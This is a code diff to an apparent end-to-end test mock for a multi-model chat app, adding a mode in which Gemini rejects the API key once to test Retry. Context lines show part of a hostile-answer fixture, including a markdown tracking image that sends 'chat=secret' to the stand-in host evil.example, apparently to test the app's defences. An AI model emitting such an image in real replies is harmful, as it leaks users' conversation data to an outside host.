@@ -4,6 +4,8 @@
 //   SLOWSTREAM  every model streams 60 words over 8 s (to test Stop)
 //   FAILGEMINI  Gemini rejects the key (one failed card)
 //   FAILALL     every model rejects the key (the turn fails)
+//   ONCEGEMINI  Gemini rejects the key the first time it sees the question, then
+//               answers (Retry on its card); make the question unique per test
 //   BENCHTIMING first token after 300 ms, complete after 1.5 s (npm run bench)
 //   BENCHINSTANT answers at once (npm run bench: the function's own overhead)
 //   MODELCOPY   (in a website description) the model writes valid site copy JSON
@@ -69,8 +71,14 @@ export const HOSTILE_ANSWER = [
   '![tracker](https://evil.example/pixel.png?chat=secret)',
 ].join('\n');
 
+const geminiFailedOnce = new Set<string>();
+
 export const e2eResponder: Responder = (request) => {
   const question = request.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
+  if (question.includes('ONCEGEMINI') && request.model.startsWith('gemini') && !geminiFailedOnce.has(question)) {
+    geminiFailedOnce.add(question);
+    return { status: 401, errorMessage: 'invalid api key' };
+  }
   if (request.json && question.includes('MODELCOPY')) return { text: JSON.stringify(MODEL_SITE_COPY) };
   if (question.includes('BENCH')) {
     providerArrivals.push({ model: request.model, question, at: Date.now() });
